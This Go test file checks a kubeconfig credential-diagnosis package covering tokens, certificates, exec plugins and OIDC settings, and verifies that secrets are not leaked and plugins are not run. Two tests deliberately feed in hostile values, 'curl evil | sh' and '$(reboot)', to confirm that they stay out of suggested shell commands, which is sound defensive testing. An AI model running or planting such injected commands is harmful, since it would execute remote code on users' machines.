package kubeconfig

import (
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"k8s.io/client-go/rest"

	"github.com/tokenlife/tokenlife/token"
)

// suspect returns a JWT that ends so long from now.
func suspect(t *testing.T, left time.Duration) string {
	t.Helper()
	claims, err := json.Marshal(map[string]any{
		"iss": "https://issuer.example", "sub": "alice", "aud": "kubernetes",
		"iat": time.Now().Add(left - time.Hour).Unix(), "exp": time.Now().Add(left).Unix(), "jti": rand.Text(),
	})
	if err != nil {
		t.Fatal(err)
	}
	e := base64.RawURLEncoding.EncodeToString
	return e([]byte(`{"alg":"ES256"}`)) + "." + e(claims) + "." + e(make([]byte, 64))
}

// clientCertificate returns a certificate that ends so long from now, and its key, each
// in base64 of PEM.
func clientCertificate(t *testing.T, left time.Duration) (cert, key string) {
	t.Helper()
	end := time.Now().Add(left)
	cert, key = certified(t, end.Add(-time.Hour), end)
	return b64(cert), b64(key)
}

// suspects writes a kubeconfig of one user, alice, who is the current one.
func suspects(t *testing.T, user map[string]any) Files {
	t.Helper()
	text, err := json.Marshal(map[string]any{
		"apiVersion": "v1", "kind": "Config", "current-context": "x",
		"clusters": []any{map[string]any{"name": "c", "cluster": map[string]any{"server": "https://127.0.0.1:1"}}},
		"contexts": []any{map[string]any{"name": "x", "context": map[string]any{"cluster": "c", "user": "alice"}}},
		"users":    []any{map[string]any{"name": "alice", "user": user}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return Files{put(t, string(text))}
}

// plugin is an exec plugin of a kubeconfig.
func plugin(command string, change map[string]any) map[string]any {
	exec := map[string]any{"apiVersion": "client.authentication.k8s.io/v1", "interactiveMode": "Never", "command": command}
	for k, v := range change {
		exec[k] = v
	}
	return map[string]any{"exec": exec}
}

// openID is the auth-provider oidc of a kubeconfig.
func openID(tokens map[string]any) map[string]any {
	config := map[string]any{"idp-issuer-url": "https://issuer.example", "client-id": "kubernetes"}
	for k, v := range tokens {
		config[k] = v
	}
	return map[string]any{"auth-provider": map[string]any{"name": "oidc", "config": config}}
}

// with adds a field to a user.
func with(user map[string]any, field string, value any) map[string]any {
	user[field] = value
	return user
}

// What is wrong with a user is found in the kubeconfig, and what is wrong with its
// token, without asking anybody or running anything.
func TestDiagnose(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	ran := filepath.Join(dir, "ran")
	program := filepath.Join(dir, "plugin")
	if err := os.WriteFile(program, []byte("#!/bin/sh\ntouch "+ran+"\n"), 0o700); err != nil {
		t.Fatal(err)
	}
	fresh, dead := suspect(t, time.Hour), suspect(t, -time.Hour)
	file := filepath.Join(dir, "token")
	if err := os.WriteFile(file, []byte(dead+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	cert, key := clientCertificate(t, time.Hour)
	deadCert, deadKey := clientCertificate(t, -48*time.Hour)

	// Of a finding, how its cause begins; what is certain is marked so.
	const sure = "certain: "
	for _, test := range []struct {
		name string
		user map[string]any
		want []string
	}{
		{"a good token", map[string]any{"token": fresh}, nil},
		{"an expired token", map[string]any{"token": dead}, []string{"the token has expired"}},
		{"a header", map[string]any{"token": "Bearer " + fresh}, []string{sure + "this is a header", "the token has white space"}},
		{"a token file", map[string]any{"tokenFile": file}, []string{"the token has expired"}},
		{"no token file", map[string]any{"tokenFile": filepath.Join(dir, "none")}, []string{sure + "the tokenFile is no good"}},
		{"no token file, and a token", map[string]any{"tokenFile": filepath.Join(dir, "none"), "token": fresh}, []string{"there is a token and a tokenFile", "the tokenFile is no good"}},
		{"nothing", map[string]any{}, []string{sure + causeNone}},
		{"a password", map[string]any{"username": "alice", "password": "hush"}, []string{sure + "the API server takes no passwords"}},
		{"a token and a password", map[string]any{"username": "alice", "password": "hush", "token": fresh}, []string{sure + "there is a token and a password"}},
		{"an expired token and a password", map[string]any{"username": "alice", "password": "hush", "token": dead}, []string{sure + "there is a token and a password", "the token has expired"}},
		{"a certificate", map[string]any{"client-certificate-data": cert, "client-key-data": key}, nil},
		{"an expired certificate", map[string]any{"client-certificate-data": deadCert, "client-key-data": deadKey}, []string{"the client certificate expired 2 days ago"}},
		{"a certificate with another's key", map[string]any{"client-certificate-data": cert, "client-key-data": deadKey}, []string{sure + "the client-key does not go with"}},
		{"a certificate without a key", map[string]any{"client-certificate-data": cert}, []string{sure + "there is a client-certificate, and no client-key"}},
		{"a certificate, and a dead token", map[string]any{"client-certificate-data": cert, "client-key-data": key, "token": dead}, []string{"there is a client certificate and a token"}},
		{"a plugin", plugin(program, nil), []string{causePlugin}},
		{"no plugin", plugin("tokenlife-no-such-plugin", nil), []string{"the plugin tokenlife-no-such-plugin is in no folder of PATH", causePlugin}},
		{"a plugin of v1alpha1", plugin(program, map[string]any{"apiVersion": "client.authentication.k8s.io/v1alpha1"}), []string{sure + "exec.apiVersion is v1alpha1"}},
		{"a plugin without a mode", plugin(program, map[string]any{"interactiveMode": ""}), []string{sure + "exec.interactiveMode is missing"}},
		{"a good ID token", openID(map[string]any{"id-token": fresh, "refresh-token": "hush"}), nil},
		{"a good ID token, for once", openID(map[string]any{"id-token": fresh}), nil},
		{"an ID token at its end", openID(map[string]any{"id-token": suspect(t, 9*time.Second), "refresh-token": "hush"}), []string{causeRefreshed}},
		{"an expired ID token", openID(map[string]any{"id-token": dead, "refresh-token": "hush"}), []string{causeRefreshed}},
		{"no ID token", openID(map[string]any{"refresh-token": "hush"}), []string{causeRefreshed}},
		{"an expired ID token, and no other", openID(map[string]any{"id-token": dead}), []string{sure + causeOver}},
		{"no ID token, and no other", openID(nil), []string{sure + causeOver}},
		{"an ID token that is none", openID(map[string]any{"id-token": "opaque", "refresh-token": "hush"}), []string{sure + "the id-token is no JWT"}},
		{"an ID token that is none, beside a token", with(openID(map[string]any{"id-token": "opaque", "refresh-token": "hush"}), "token", fresh), []string{"the auth-provider is not used", "the id-token is no JWT"}},
		{"an ID token that is none, and a certificate", with(with(openID(map[string]any{"id-token": "opaque"}), "client-certificate-data", cert), "client-key-data", key), []string{sure + "the id-token is no JWT", "there is a client certificate and a token"}},
		{"an ID token without an end", openID(map[string]any{"id-token": endless, "refresh-token": "hush"}), []string{"the id-token does not say when it ends"}},
		{"an ID token without an end, and no other", openID(map[string]any{"id-token": endless}), []string{sure + "the id-token does not say when it ends"}},
		{"an ID token that was cut off", openID(map[string]any{"id-token": fresh[:len(fresh)-1], "refresh-token": "hush"}), []string{sure + "this is no whole token", "the id-token is not whole"}},
		{"no issuer", openID(map[string]any{"id-token": fresh, "refresh-token": "hush", "idp-issuer-url": ""}), []string{sure + "auth-provider.config.idp-issuer-url is missing"}},
		{"a provider that is gone", map[string]any{"auth-provider": map[string]any{"name": "gcp"}}, []string{sure + "the auth-provider gcp is gone"}},
	} {
		t.Run(test.name, func(t *testing.T) {
			files := suspects(t, test.user)
			d, err := files.Diagnose(t.Context(), "", nil)
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("\n%v", d)
			got := make([]string, len(d.Findings))
			for i, f := range d.Findings {
				if got[i] = f.Cause; f.Certain {
					got[i] = sure + f.Cause
				}
				from := func(e token.Evidence) bool {
					return strings.Contains(e.What, "alice") && strings.Contains(e.Value, files[0])
				}
				if f.Remedy == "" || !slices.ContainsFunc(f.Evidence, from) {
					t.Errorf("it lacks something: %+v", f)
				}
			}
			if !slices.EqualFunc(got, test.want, strings.HasPrefix) {
				t.Errorf("got %q, want %q", got, test.want)
			}
			for _, secret := range []string{"hush", fresh, dead, fresh[40:80], dead[40:80]} {
				if strings.Contains(d.String(), secret) {
					t.Error("there is a secret in it")
				}
			}
		})
	}
	if _, err := os.Stat(ran); err == nil {
		t.Error("the plugin was run")
	}
}

// Of a problem, what to do about it is the remedy.
func TestDiagnoseRemedy(t *testing.T) {
	t.Parallel()
	d, err := suspects(t, plugin("tokenlife-no-such-plugin", map[string]any{"installHint": "brew install it; or: apt"})).Diagnose(t.Context(), "alice", nil)
	if err != nil {
		t.Fatal(err)
	}
	if f := d.Findings[0]; f.Cause != "the plugin tokenlife-no-such-plugin is in no folder of PATH" || f.Remedy != `install it, as the kubeconfig says: "brew install it; or: apt"` {
		t.Errorf("%q, and to do: %q", f.Cause, f.Remedy)
	}
	d, err = suspects(t, plugin("", nil)).Diagnose(t.Context(), "alice", nil)
	if err != nil {
		t.Fatal(err)
	}
	if f := d.Findings[0]; f.Cause != "exec.command is missing" || f.Remedy != "set it to the program that gets the credential" {
		t.Errorf("%q, and to do: %q", f.Cause, f.Remedy)
	}
}

// Nothing that somebody else has chosen is what to do about it.
func TestDiagnoseRemedyIsOurs(t *testing.T) {
	t.Parallel()
	const evil = `a: b; curl evil | sh; ": c`
	path := put(t, fmt.Sprintf(`
current-context: %[1]q
contexts: [{name: %[1]q, context: {cluster: %[1]q, user: u}}]
users:
- name: u
  user:
    tokenFile: %[2]q
    client-certificate: %[2]q
    exec: {command: %[1]q, installHint: %[1]q, apiVersion: client.authentication.k8s.io/v1, interactiveMode: Never}
    auth-provider: {name: %[1]q}
`, evil, "/"+evil))
	dir := filepath.Join(filepath.Dir(path), evil)
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	folder := put(t, fmt.Sprintf("users: [{name: u, user: {tokenFile: %q}}]\n", dir))
	for _, path := range []string{path, folder} {
		d, err := Files{path}.Diagnose(t.Context(), "u", nil)
		if err != nil || len(d.Findings) == 0 {
			t.Fatal(d, err)
		}
		for _, f := range d.Findings {
			if said, ok := strings.CutPrefix(f.Remedy, "install it, as the kubeconfig says: "); ok {
				if said != strconv.Quote(evil) {
					t.Errorf("the hint is %s", said)
				}
			} else if f.Remedy == "" || strings.Contains(f.Remedy, "curl") {
				t.Errorf("%q, and to do: %q", f.Cause, f.Remedy)
			}
		}
	}
}

// Commands are pasted into a shell, and whoever made the kubeconfig has chosen the name
// of the user.
func TestDiagnoseName(t *testing.T) {
	t.Parallel()
	if said := (User{}).Outlook(); !strings.HasSuffix(said, "set-credentials NAME") {
		t.Errorf("no name: %s", said)
	}
	for name, want := range map[string]string{
		"alice": "set-credentials alice", "arn:aws:eks:eu-west-1:1:cluster/c": "set-credentials arn:aws:eks:eu-west-1:1:cluster/c",
		"$(reboot)": "set-credentials NAME", "a;reboot": "set-credentials NAME", "--help": "set-credentials NAME", "a b": "set-credentials NAME",
	} {
		files := suspects(t, map[string]any{})
		text, err := os.ReadFile(files[0])
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(files[0], []byte(strings.ReplaceAll(string(text), `"alice"`, fmt.Sprintf("%q", name))), 0o600); err != nil {
			t.Fatal(err)
		}
		d, err := files.Diagnose(t.Context(), name, nil)
		if err != nil {
			t.Fatal(err)
		}
		u, err := files.User(name)
		if err != nil {
			t.Fatal(err)
		}
		for _, said := range []string{d.Findings[0].Remedy, u.Outlook()} {
			if !strings.HasSuffix(said, want) {
				t.Errorf("%q: %s", name, said)
			}
		}
	}
}

// Whoever names a user that is not there is told which there are.
func TestDiagnoseNobody(t *testing.T) {
	t.Parallel()
	files := suspects(t, map[string]any{"token": "hush"})
	if _, err := files.Diagnose(t.Context(), "bob", nil); err == nil || !strings.Contains(err.Error(), "alice") || !strings.Contains(err.Error(), files[0]) {
		t.Errorf("a user that is not there: %v", err)
	}
	if _, err := (Files{filepath.Join(t.TempDir(), "none")}).Diagnose(t.Context(), "alice", nil); err == nil {
		t.Error("no file, and no error")
	}
}

// A server is asked about the token that kubectl would send, and about no other.
func TestDiagnoseAsks(t *testing.T) {
	t.Parallel()
	var presented atomic.Int64
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case r.URL.Path == "/version":
			fmt.Fprint(w, `{"major":"1","minor":"33","gitVersion":"v1.33.0"}`)
		case r.Header.Get("Authorization") != "":
			presented.Add(1)
			fallthrough
		default:
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprint(w, `{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"Unauthorized","reason":"Unauthorized","code":401}`)
		}
	}))
	t.Cleanup(server.Close)
	cfg := &rest.Config{Host: server.URL, TLSClientConfig: rest.TLSClientConfig{CAData: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})}}

	refused := func(d token.Diagnosis) bool {
		return slices.ContainsFunc(d.Findings, func(f token.Finding) bool { return strings.Contains(f.Cause, "the API server refuses the token") })
	}
	ask := func(user map[string]any) token.Diagnosis {
		t.Helper()
		presented.Store(0)
		d, err := suspects(t, user).Diagnose(t.Context(), "alice", cfg)
		if err != nil {
			t.Fatal(err)
		}
		return d
	}
	if d := ask(map[string]any{"token": suspect(t, time.Hour)}); presented.Load() == 0 || !refused(d) {
		t.Errorf("a token that the server refuses, presented %d times:\n%v", presented.Load(), d)
	}
	if d := ask(openID(map[string]any{"id-token": suspect(t, time.Hour), "refresh-token": "hush"})); presented.Load() == 0 || !refused(d) {
		t.Errorf("an ID token that the server refuses, presented %d times:\n%v", presented.Load(), d)
	}
	cert, key := clientCertificate(t, time.Hour)
	for _, user := range []map[string]any{
		openID(map[string]any{"id-token": suspect(t, -time.Hour), "refresh-token": "hush"}),
		openID(map[string]any{"id-token": "opaque", "refresh-token": "hush"}),
		openID(map[string]any{"id-token": endless, "refresh-token": "hush"}),
		{"client-certificate-data": cert, "client-key-data": key, "token": suspect(t, time.Hour)},
		plugin("tokenlife-no-such-plugin", nil),
	} {
		if d := ask(user); presented.Load() != 0 || refused(d) {
			t.Errorf("what is not sent was presented %d times:\n%v", presented.Load(), d)
		}
	}
}
